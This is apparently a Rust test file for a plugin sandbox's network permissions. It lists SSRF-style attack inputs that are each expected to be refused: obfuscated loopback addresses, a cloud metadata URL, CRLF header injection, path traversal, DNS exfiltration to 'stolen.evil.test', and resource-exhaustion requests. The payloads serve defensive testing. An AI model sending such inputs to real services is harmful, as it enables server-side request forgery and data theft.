//! Reaching what was not granted. The prober may GET from one peer on loopback;
//! a canary listens beside it and must never be reached.

use serde_json::{Value, json};

use super::super::ground::Ground;
use super::{Attack, Expect, Seen, members, refused_by};

const fn prober(
    name: &'static str,
    tool: &'static str,
    input: fn(&Ground) -> Value,
    expect: Expect,
) -> Attack {
    Attack::new("network", "evil-prober", (name, tool), input, expect)
}

/// An attack on the interface itself, below the SDK.
const fn raw(
    name: &'static str,
    tool: &'static str,
    input: fn(&Ground) -> Value,
    expect: Expect,
) -> Attack {
    Attack::new("network", "evil-http", (name, tool), input, expect)
}

/// A request for the canary, with its port put in for `PORT`. That it is refused
/// is not enough: a connection that fails would look the same.
macro_rules! canary {
    ($name:literal, $url:literal) => {
        prober(
            $name,
            "request",
            |ground| json!({ "url": at_canary(ground, $url) }),
            Expect::Answer("denied, or no address", |answer| {
                refused_by(answer, &["denied: http (", "invalid-input: url"])
            }),
        )
    };
}

fn at_canary(ground: &Ground, url: &str) -> String {
    let peer = ground.peers.granted.port().to_string();
    url.replace("PORT", &ground.peers.canary.port().to_string())
        .replace("PEER", &peer)
}

fn at_peer(ground: &Ground, path: &str) -> Value {
    json!({ "url": format!("http://{}{path}", ground.peers.granted) })
}

fn canary_address(ground: &Ground) -> Value {
    json!({ "address": ground.peers.canary.to_string() })
}

/// As `evil-http` takes an address: authority and path are not looked at.
fn ask(ground: &Ground, path: &str) -> Value {
    json!({ "scheme": "http", "authority": ground.peers.granted.to_string(), "path": path })
}

/// Authorities and paths as no URL library would write them.
fn raw_spellings(ground: &Ground) -> Value {
    let (port, peer) = (ground.peers.canary.port(), ground.peers.granted);
    let hosts = [
        "127.0.0.1",
        "127.1",
        "2130706433",
        "0x7f000001",
        "0x7f.1",
        "017700000001",
        "0",
        "[::1]",
        "[::]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[64:ff9b::7f00:1]",
        "[2002:7f00:1::]",
        "localhost",
        "LOCALHOST",
        "localhost.",
        "user:pw@127.0.0.1",
        "127.0.0.1.evil.test",
        "127.0.0.1%2eevil.test",
    ];
    let mut asked: Vec<Value> = Vec::new();
    for host in hosts {
        asked.push(json!([format!("{host}:{port}"), "/"]));
    }
    for path in [
        "/ok/",
        "//ok",
        "/ok/..%2fprivate",
        "/%6fk/../private",
        "/ok;/private",
    ] {
        asked.push(json!([peer.to_string(), path]));
    }
    json!({ "scheme": "http", "headers": asked })
}

/// Refused by the request itself or by the gate, not by a failed connection.
fn never_sent(answer: &Value) -> bool {
    members(answer).is_some_and(|mut all| {
        all.all(|(_, told)| {
            told["refused"].is_string() || told["error"] == "ErrorCode::HttpRequestDenied"
        })
    })
}

pub(super) const ATTACKS: &[Attack] = &[
    prober(
        "gets what it was granted",
        "request",
        |g| at_peer(g, "/ok"),
        Expect::Answer("the page", |v| v["data"]["text"] == "ok"),
    ),
    raw(
        "gets what it was granted, by the raw interface",
        "ask",
        |g| ask(g, "/ok"),
        Expect::Answer("the page", |v| v["body"] == "ok"),
    ),
    raw(
        "spells addresses as no library would",
        "ask_each",
        raw_spellings,
        Expect::Answer("none is sent", never_sent),
    ),
    prober(
        "asks a private address that is granted, but not as private",
        "request",
        |g| json!({ "url": at_canary(g, "http://127.0.0.1:PORT/private") }),
        Expect::Denied("http"),
    ),
    prober(
        "asks a name that is granted and resolves to a private address",
        "request",
        |g| json!({ "url": at_canary(g, "http://localhost:PORT/private") }),
        Expect::Denied("http"),
    ),
    prober(
        "reaches another port on loopback",
        "request",
        |g| json!({ "url": at_canary(g, "http://127.0.0.1:PORT/") }),
        Expect::Denied("http"),
    ),
    canary!("spells loopback as a name", "http://localhost:PORT/"),
    canary!("spells loopback in hexadecimal", "http://0x7f000001:PORT/"),
    canary!("spells loopback as one number", "http://2130706433:PORT/"),
    canary!("spells loopback in octal", "http://0177.0.0.1:PORT/"),
    canary!("spells loopback shortly", "http://127.1:PORT/"),
    canary!("uses the unspecified address", "http://0.0.0.0:PORT/"),
    canary!("uses IPv6 loopback", "http://[::1]:PORT/"),
    canary!("wraps loopback in IPv6", "http://[::ffff:127.0.0.1]:PORT/"),
    canary!(
        "puts the granted host into user-info",
        "http://127.0.0.1:PEER@127.0.0.1:PORT/"
    ),
    canary!(
        "puts the granted host into a fragment",
        "http://127.0.0.1:PORT/#@127.0.0.1:PEER/"
    ),
    canary!(
        "uses backslashes",
        "http://127.0.0.1:PORT\\@127.0.0.1:PEER/"
    ),
    canary!("uses a trailing dot", "http://127.0.0.1.:PORT/"),
    prober(
        "asks the cloud's metadata service",
        "request",
        |_| json!({ "url": "http://169.254.169.254/latest/meta-data/" }),
        Expect::Denied("http"),
    ),
    prober(
        "asks the host's own API, whose address is granted",
        "request",
        |g| json!({ "url": format!("{}/v1/plugins", g.server.base()) }),
        Expect::Denied("http"),
    ),
    prober(
        "is redirected to the canary",
        "request",
        |g| at_peer(g, "/redirect"),
        Expect::Answer("the redirect itself", |v| v["data"]["status"] == 302),
    ),
    prober(
        "posts where it may get",
        "request",
        |g| json!({ "url": format!("http://{}/ok", g.peers.granted), "post": true }),
        Expect::Denied("http"),
    ),
    prober(
        "asks for a path it was not granted",
        "request",
        |g| at_peer(g, "/private"),
        Expect::Denied("http"),
    ),
    prober(
        "climbs to a path it was not granted",
        "request",
        |g| at_peer(g, "/echo/../private"),
        Expect::Denied("http"),
    ),
    prober(
        "sets Host",
        "request",
        |g| json!({ "url": format!("http://{}/ok", g.peers.granted), "header": ["host", "evil.test"] }),
        Expect::Answer("refused", |v| refused_by(v, &["Forbidden"])),
    ),
    prober(
        "splits a header",
        "request",
        |g| json!({ "url": format!("http://{}/ok", g.peers.granted), "header": ["x-a", "b\r\nhost: evil.test"] }),
        Expect::Answer("refused", |v| refused_by(v, &["control characters"])),
    ),
    raw(
        "sets headers of the connection, and splits them",
        "append_each",
        |_| {
            json!({ "headers": [
            ["Host", "evil.test"], ["connection", "x"], ["Transfer-Encoding", "chunked"],
            ["proxy-authorization", "x"], ["TE", "x"], ["upgrade", "x"],
            ["x", "a\r\nhost: evil.test"], ["x", "a\u{0}"], ["x y", "1"], ["", "1"],
            ["accept", "text/plain"],
        ] })
        },
        Expect::Answer("only the harmless one is set", |v| {
            let set = |(name, told): (&String, &Value)| (told == "ok").then(|| name.clone());
            members(v).is_some_and(|all| all.filter_map(set).eq(["accept: text/plain".to_owned()]))
        }),
    ),
    raw(
        "asks for an hour's patience",
        "hour",
        |g| ask(g, "/never"),
        Expect::After("ended with the call's time", |seen| {
            let timeout = seen.body["output"]["error"].as_str().unwrap_or_default();
            seen.body["limit"] == "wall" || timeout.contains("Timeout")
        }),
    ),
    raw(
        "takes an answer with very long headers",
        "headers_in",
        |g| ask(g, "/headers"),
        Expect::Answer("refused", |v| {
            let error = v["error"].as_str().unwrap_or_default();
            error.starts_with("ErrorCode::HttpResponseHeaderSectionSize")
        }),
    ),
    raw(
        "fills a header map for ever",
        "headers_out",
        |_| json!({ "amount": 1 << 30 }),
        Expect::Limit("host_memory"),
    ),
    raw(
        "keeps 900 requests in flight",
        "many_requests",
        |g| {
            let mut input = ask(g, "/never");
            input["amount"] = 900.into();
            input
        },
        Expect::Limit("host_memory"),
    ),
    raw(
        "fills 900 lists of fields",
        "many_fields",
        |_| json!({ "amount": 900 }),
        Expect::After("no more than its budget", bounded),
    ),
    raw(
        "writes ahead into 300 bodies",
        "many_bodies",
        |_| json!({ "amount": 300 }),
        Expect::After("no more than its budget", bounded),
    ),
    prober(
        "reads a body that never ends",
        "request",
        |g| at_peer(g, "/drip"),
        Expect::Limit("wall"),
    ),
    prober(
        "reads more than its response limit",
        "request",
        |g| at_peer(g, "/big"),
        Expect::Answer("ended at the limit", |v| {
            refused_by(v, &["limit: response_bytes"])
        }),
    ),
    prober(
        "opens a TCP connection",
        "tcp",
        canary_address,
        Expect::Denied("sockets"),
    ),
    prober(
        "sends a UDP packet",
        "udp",
        canary_address,
        Expect::Denied("sockets"),
    ),
    prober(
        "uses names as a channel",
        "resolve",
        |_| json!({ "address": "stolen.evil.test:80" }),
        Expect::Denied("sockets"),
    ),
    prober(
        "asks for a page at a name that carries what it stole",
        "request",
        |_| json!({ "url": "http://stolen.evil.test/" }),
        Expect::Denied("http"),
    ),
    Attack::new(
        "network",
        "evil-host",
        ("tries every way to a socket", "sockets"),
        |g| json!({ "address": g.peers.canary.to_string(), "name": "localhost" }),
        Expect::Answer("each refused", |v| {
            members(v).is_some_and(|mut ways| ways.all(|(_, way)| way["error"].is_string()))
        }),
    ),
];

/// What the host held for the guest is within the call's 16 MiB, and not nothing.
fn bounded(seen: &Seen<'_>) -> bool {
    let held = seen.body["output"]["bytes"].as_u64();
    held.is_some_and(|bytes| (1..=16 << 20).contains(&bytes)) || seen.body["limit"] == "host_memory"
}
